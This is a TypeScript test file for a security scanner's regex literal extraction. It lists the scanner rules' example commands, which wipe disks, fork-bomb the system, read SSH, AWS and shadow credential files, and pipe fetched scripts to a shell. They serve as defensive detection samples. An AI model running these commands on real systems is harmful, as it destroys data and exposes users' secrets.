// The literals read from a pattern are ones every match holds, in order: read from the rule set's
// own patterns, checked on each rule's documented examples and on many generated strings.
import { describe, expect, it } from "vitest";
import { xorshift } from "../../bench/lib/seeded-random.mjs";
import { SCAN_RULES } from "./rules";
import { couldMatch, holdsInOrder, requiredClauses } from "./required-literals";

const contentPatterns = SCAN_RULES.flatMap((r) => (r.match.kind === "content" ? [r.match.pattern] : []));

/** Strings that mix a pattern's own literals with whitespace (ASCII and not), punctuation and noise. */
function stringsFor(pattern: RegExp, count: number, seed: number): string[] {
  const literals = pattern.source.match(/[A-Za-z0-9_.~/=-]{2,}/g) ?? [];
  const pieces = [
    ...literals.map((l) => l.replace(/\\/g, "")),
    " ",
    "  ",
    "\t",
    "\u00a0",
    "\u2028",
    "\ufffd",
    "é",
    "😀",
    "(",
    ")",
    "{",
    "}",
    ":",
    "|",
    "&",
    ";",
    "'",
    '"',
    "`",
    "$(",
    "<(",
    "-rf",
    "/",
    "~/",
    "/dev/sda",
    "IEX",
    "iwr",
    "x",
  ];
  const rand = xorshift(seed);
  return Array.from({ length: count }, () =>
    Array.from({ length: 1 + (rand() % 12) }, () => pieces[rand() % pieces.length]!).join(""),
  );
}

describe("requiredClauses", () => {
  it.each<[RegExp, string[][][]]>([
    [/ab\s*cd/, [[["ab"], ["cd"]]]],
    [/x(?:foo|bar)?y/, [[["x"], ["y"]]]],
    [/x(?:foo|bar)y/, [[["x"], ["foo", "bar"], ["y"]]]],
    [/a(?:bc)d/, [[["abcd"]]]],
    [/(?=abc)de/, [[["de"]]]],
    [/(?<!abc)de/, [[["de"]]]],
    [/\bIEX\b/i, [[["iex"]]]],
    [/a{2}b/, [[["a"], ["b"]]]],
    [/a{0,2}bc/, [[["bc"]]]],
    [/[abc]def/, [[["def"]]]],
    [/\{x\}/, [[["{x}"]]]],
    [/x{/, [[["x{"]]]],
    [/(?:ab)+c/, [[["ab"], ["c"]]]],
    [/abc|de/, [[["abc"]], [["de"]]]],
    [new RegExp("a[]bc"), [[["a"], ["bc"]]]],
    [/a[^]bc/, [[["a"], ["bc"]]]],
    [/a[\]x]bc/, [[["a"], ["bc"]]]],
  ])("%s needs %j", (pattern, expected) => {
    expect(requiredClauses(pattern)).toEqual(expected);
  });

  it("a pattern with an alternative that needs no literal answers nothing (every line is tested)", () => {
    expect(requiredClauses(/abc|\d+/)).toEqual([]);
    expect(requiredClauses(/(?:abc)?/)).toEqual([]);
  });

  it("refuses syntax it does not read instead of reading it wrong", () => {
    expect(() => requiredClauses(/\x41/)).toThrow(/unsupported escape/);
    expect(() => requiredClauses(/(?<name>a)/)).toThrow(/unsupported group/);
    expect(() => requiredClauses(/a/u)).toThrow(/flags/);
  });

  it("reads every content rule of the scanner, and each needs a literal", () => {
    for (const pattern of contentPatterns) expect(requiredClauses(pattern).length).toBeGreaterThan(0);
  });

  it("each rule's documented examples hold the literals its pattern needs", () => {
    const examples = [
      "rm -rf /",
      "sudo rm -fr ~/",
      "rm --no-preserve-root -rf /",
      "shutil.rmtree('/')",
      "fs.rmSync(os.homedir(), { recursive: true })",
      "mkfs.ext4 /dev/sdb1",
      "dd if=/dev/zero of=/dev/sda bs=1M",
      "cat x > /dev/sda",
      ":(){ :|:& };:",
      "chmod -R 777 /",
      "cat ~/.ssh/id_rsa",
      "open('.aws/credentials')",
      "ls ~/.gnupg",
      "cat /etc/shadow",
      "Chrome/Default/Cookies",
      "cp ~/.netrc x",
      "curl -s https://x.example | sh",
      'bash -c "$(curl -fsSL https://x.example)"',
      "eval(await fetch(url))",
      "exec(requests.get(url).text)",
      "IEX (iwr http://x.example)",
    ];
    let matched = 0;
    for (const pattern of contentPatterns) {
      const caseless = pattern.flags.includes("i");
      for (const example of examples) {
        if (!pattern.test(example)) continue;
        matched++;
        const haystack = caseless ? example.toLowerCase() : example;
        expect(requiredClauses(pattern).some((clauses) => holdsInOrder(haystack, clauses))).toBe(true);
      }
    }
    expect(matched).toBeGreaterThanOrEqual(examples.length);
  });

  it("every generated string a rule or reference pattern matches holds its literals in order", () => {
    const referencePatterns = [
      /\bimport\s+(?:[^'"`;]{0,500}?\s+from\s+)?["']([^"'\n]+)["']/,
      /\bexport\s+[^'"`;]{0,500}?\s+from\s+["']([^"'\n]+)["']/,
      /\bimport\s*\(\s*["']([^"'\n]+)["']\s*\)/,
      /\brequire\s*\(\s*["']([^"'\n]+)["']\s*\)/,
    ];
    let matches = 0;
    [...contentPatterns, ...referencePatterns].forEach((pattern, i) => {
      const mayMatch = couldMatch(pattern);
      for (const s of stringsFor(pattern, 4000, 0x9e3779b9 + i)) {
        if (!pattern.test(s)) continue;
        matches++;
        expect(mayMatch(s), `${pattern} on ${JSON.stringify(s)}`).toBe(true);
      }
    });
    expect(matches).toBeGreaterThan(500);
  });
});

describe("holdsInOrder", () => {
  it("needs a string of each clause, one after another, without overlap", () => {
    expect(holdsInOrder("xaybz", [["a"], ["b"]])).toBe(true);
    expect(holdsInOrder("xbyaz", [["a"], ["b"]])).toBe(false);
    expect(holdsInOrder("aa", [["aa"], ["a"]])).toBe(false);
    expect(holdsInOrder("aab", [["aa", "a"], ["ab"]])).toBe(true);
    expect(holdsInOrder("", [])).toBe(true);
  });
});
